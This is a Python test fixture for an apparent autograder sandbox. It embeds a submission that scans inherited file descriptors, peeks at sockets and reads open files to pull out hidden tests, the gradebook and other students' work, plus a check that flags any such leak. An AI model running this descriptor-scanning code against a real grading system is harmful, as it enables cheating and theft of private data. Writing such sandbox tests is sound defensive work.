"""Every descriptor is read during a call: a test, a gradebook or another's work may pass there."""

from __future__ import annotations

from security.attack import Asset, Attack, AttackClass

ANSWER = """\
import os, socket, stat
def answer(x):
    found = b""
    for handle in range(256):
        try:
            mode = os.fstat(handle).st_mode
            if stat.S_ISSOCK(mode):
                with socket.socket(fileno=os.dup(handle)) as copy:
                    found += copy.recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            elif stat.S_ISREG(mode):
                found += os.pread(handle, 1 << 16, 0)
        except OSError: pass
    open("seen", "ab").write(found)
    return 0
"""
LOOK = """\
text = open("seen", "rb").read()
if b"hidden_" b"margin_0x" in text: breach("text of a hidden test")
if b"SQLite format" in text or b"nbformat" in text: breach("a file of the instructor")
"""

ATTACK = Attack(
    kind=AttackClass.DESCRIPTORS,
    assets=(
        Asset.TESTS,
        Asset.VALUES,
        Asset.GRADEBOOK,
        Asset.OTHERS,
    ),
    expected=frozenset({"ok/failed"}),
    canary="hidden text shown",
    cells=(ANSWER,),
    look=LOOK,
)
